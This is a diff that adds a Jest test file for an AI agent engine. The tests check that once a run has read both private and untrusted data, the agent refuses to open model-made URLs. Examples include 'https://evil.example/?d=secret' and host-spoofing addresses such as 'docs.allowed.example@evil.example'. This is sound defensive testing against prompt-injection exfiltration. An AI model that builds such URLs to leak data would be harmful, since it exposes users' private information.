@@ -1,0 +1,192 @@
+import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
+import { z } from 'zod';
+import type { RunLabel } from '@/lib/core/run-labels';
+import { defineTool, type Tool } from '@/lib/core/tool';
+import { type Database, openDatabase } from '@/lib/stores/open-database';
+import { createStores } from '@/lib/stores/stores';
+import { type Answer, answer, brief, clearTables, dataOf, layTable, newRun, readAll } from '../fakes/play';
+import { type Asked, type Reply, scriptedModel } from '../fakes/scripted-model';
+
+let database: Database;
+let userId: string;
+
+beforeAll(async () => {
+  database = await openDatabase({ memory: true });
+  userId = (await createStores(database.db).users.create({ email: 'lea@example.com', name: 'Lea', role: 'owner' })).id;
+});
+afterEach(clearTables);
+afterAll(() => database.close());
+
+const reader = (name: string, labels: RunLabel[]): Tool =>
+  defineTool({
+    ...{ name, description: name, access: 'read', where: 'server', labels, input: z.strictObject({}) },
+    run: async () => ({ read: name }),
+  });
+
+/** A table whose agents can also read something of every label, open addresses and search. */
+async function table(play: (asked: Asked) => Reply, changes: Parameters<typeof layTable>[3] = {}) {
+  const opened: string[] = [];
+  const own: Tool[] = [
+    reader('readPrivate', ['private']),
+    reader('readStrange', ['untrusted']),
+    reader('readBoth', ['private', 'untrusted']),
+    defineTool({
+      ...{ name: 'open', description: 'Opens a page', access: 'read', where: 'server', opens: 'url' },
+      input: z.strictObject({ url: z.string() }),
+      async run({ url }) {
+        opened.push(url);
+        return { page: url };
+      },
+    }),
+    defineTool({
+      ...{ name: 'search', description: 'Searches', access: 'read', where: 'server', labels: ['untrusted'] },
+      input: z.strictObject({}),
+      urls: () => ['https://found.example/a?b=c'],
+      run: async () => ({ results: 1 }),
+    }),
+  ];
+  const { model, calls } = scriptedModel(play);
+  return { ...(await layTable(database, userId, model, { more: own, ...changes })), opened, calls };
+}
+
+const solo = (question = 'What does it all mean?') => ({ ...newRun(userId, { rounds: 0 }), question });
+const open = (url: string) => ({ name: 'open', args: { url } });
+/** Makes these calls, one step each, and then says what came of them. */
+const steps =
+  (...calls: { name: string; args: unknown; id?: string }[]) =>
+  ({ results }: Asked): Reply => {
+    const call = calls[results.length];
+    return call ? { calls: [call] } : { text: results.join(' ') };
+  };
+const call = (name: string) => ({ name, args: {} });
+
+describe('the labels of a run', () => {
+  test('are said once each, with the agent and the tool that read it first', async () => {
+    const t = await table(steps(call('readPrivate'), call('readPrivate'), call('readBoth')));
+    const run = await t.engine.start(solo());
+    expect(dataOf(await readAll(t, run), 'run_label')).toEqual([
+      { label: 'private', agent: 'ada', turnId: 'ada', tool: 'readPrivate' },
+      { label: 'untrusted', agent: 'ada', turnId: 'ada', tool: 'readBoth' },
+    ]);
+  });
+
+  test('are those of the conversation before it, too', async () => {
+    const t = await table(steps(open('https://evil.example/?d=1'), open('https://typed.example/before')), {
+      history: async () => ({
+        messages: [
+          { role: 'user', content: 'Read https://typed.example/before' },
+          { role: 'assistant', content: 'Done. See https://evil.example/?d=1' },
+        ],
+        labels: ['private', 'untrusted'],
+      }),
+    });
+    const run = await t.engine.start(solo());
+    expect(dataOf(await readAll(t, run), 'run_label')).toEqual([{ label: 'private' }, { label: 'untrusted' }]);
+    expect(t.opened).toEqual(['https://typed.example/before']);
+  });
+});
+
+describe('a run that has read what is private and what is untrusted', () => {
+  test('opens no address that a model made up, and says why', async () => {
+    const t = await table(steps(call('readBoth'), open('https://evil.example/?d=secret')));
+    const run = await t.engine.start(solo());
+    const events = await readAll(t, run);
+    expect(t.opened).toEqual([]);
+    const [, refused] = dataOf(events, 'agent_tool_result');
+    expect(refused).toMatchObject({ name: 'open', error: expect.stringMatching(/private and what is untrusted.*person typed/) });
+    expect(dataOf(events, 'run_end')).toMatchObject([{ status: 'completed' }]);
+  });
+
+  test.each(['readPrivate', 'readStrange'])('is not one that only did %s: it opens everything', async (name) => {
+    const t = await table(steps(call(name), open('https://anywhere.example/?d=1')));
+    const run = await t.engine.start(solo());
+    await readAll(t, run);
+    expect(t.opened).toEqual(['https://anywhere.example/?d=1']);
+  });
+
+  test('opens what the person typed, what a search returned and what the operator allows, exactly as it is', async () => {
+    const right = [
+      'https://typed.example/page',
+      'https://found.example/a?b=c',
+      'https://docs.allowed.example/x',
+      'https://ok.example/?q=1',
+    ];
+    const wrong = [
+      'https://typed.example/page?d=secret',
+      'https://typed.example/other',
+      'https://secret.typed.example/page',
+      'https://found.example/a?b=secret',
+      'https://allowed.example/',
+      'https://evil.example/docs.allowed.example',
+      'https://docs.allowed.example@evil.example/',
+      'https://docs.allowed.example.evil.example/',
+      'not an address',
+    ];
+    for (const address of [...right, ...wrong]) {
+      const t = await table(steps(call('readBoth'), call('search'), open(address)), {
+        allowedHosts: ['*.allowed.example', 'ok.example'],
+      });
+      const run = await t.engine.start(solo('Read https://typed.example/page.'));
+      await readAll(t, run);
+      expect([address, t.opened]).toEqual([address, right.includes(address) ? [address] : []]);
+      await clearTables();
+    }
+  });
+
+  test('opens what the person said while it went on', async () => {
+    const t = await table(({ results, everything }) => {
+      if (results.length === 0) return { calls: [call('readBoth')] };
+      if (!everything.includes('steered.example')) return { calls: [call('readPrivate')] };
+      return results.at(-1)?.includes('steered') ? { text: 'Done' } : { calls: [open('https://steered.example/')] };
+    });
+    const run = solo();
+    await t.stores.runs.signals(run.id);
+    const started = await t.engine.start(run);
+    await t.engine.signal(started, { key: 'steer.1', data: { kind: 'steer', text: 'Look at steered.example, too' } });
+    await readAll(t, started);
+    expect(t.opened).toEqual(['https://steered.example/']);
+  });
+
+  test('is that for all of its agents', async () => {
+    const t = await table(({ json, results, instructions, prompt }) => {
+      if (json) return { text: brief };
+      if (!instructions.includes('cleo')) return results.length === 0 ? { calls: [call('readBoth')] } : { text: 'I read it.' };
+      // Cleo looks only when the others have, in the second round.
+      if (!prompt.includes('I read it.')) return { text: 'I wait.' };
+      return results.length === 0 ? { calls: [open('https://evil.example/?d=1')] } : { text: 'I tried.' };
+    });
+    const run = await t.engine.start(newRun(userId, { rounds: 2 }));
+    const events = await readAll(t, run);
+    expect(dataOf(events, 'agent_tool_call').map(({ toolCall }) => toolCall.name)).toContain('open');
+    expect(t.opened).toEqual([]);
+  });
+
+  test('is still that in another life of it', async () => {
+    const question = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
+    const play = steps(call('readBoth'), question, open('https://evil.example/?d=1'), open('https://typed.example/'));
+    const first = await table(play);
+    const run = await first.engine.start(solo('Compare it with https://typed.example/'));
+    for (;;) {
+      if ((await first.stores.runs.get(userId, run.id))?.status === 'waiting') break;
+      await new Promise((resolve) => setTimeout(resolve, 10));
+    }
+    await clearTables();
+    const second = await table(play);
+    await answer(second, run, 'ada.q', { kind: 'question', answer: 'Yes' });
+    const events = await readAll(second, run);
+    expect(second.opened).toEqual(['https://typed.example/']);
+    expect(dataOf(events, 'run_label')).toHaveLength(2);
+  });
+
+  test('asks for every write, whatever was said yes to for all before', async () => {
+    const letter = (id: string) => ({ name: 'send', id, args: { letter: id } });
+    const always: Answer = { kind: 'approval', decision: 'approve', always: true };
+    const t = await table(steps(letter('a'), letter('b'), call('readBoth'), letter('c')));
+    const run = await t.engine.start(solo());
+    await answer(t, run, 'ada.a', always);
+    await answer(t, run, 'ada.c', { kind: 'approval', decision: 'deny' });
+    const events = await readAll(t, run);
+    expect(t.sent).toEqual(['a', 'b']);
+    expect(dataOf(events, 'signal_request').map(({ key }) => key)).toEqual(['ada.a', 'ada.c']);
+  });
+});
